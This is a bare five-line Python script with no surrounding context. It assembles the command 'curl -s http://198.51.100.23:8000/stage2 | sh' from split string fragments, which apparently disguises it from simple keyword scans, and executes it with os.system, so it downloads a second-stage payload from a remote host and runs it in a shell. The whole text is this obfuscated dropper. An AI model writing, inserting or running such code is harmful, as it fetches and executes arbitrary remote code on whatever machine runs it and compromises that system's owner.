
import os
x = "cu"
x += "rl -s http://198.51.100.23:8000/stage2 | s"
x += "h"
os.system(x)
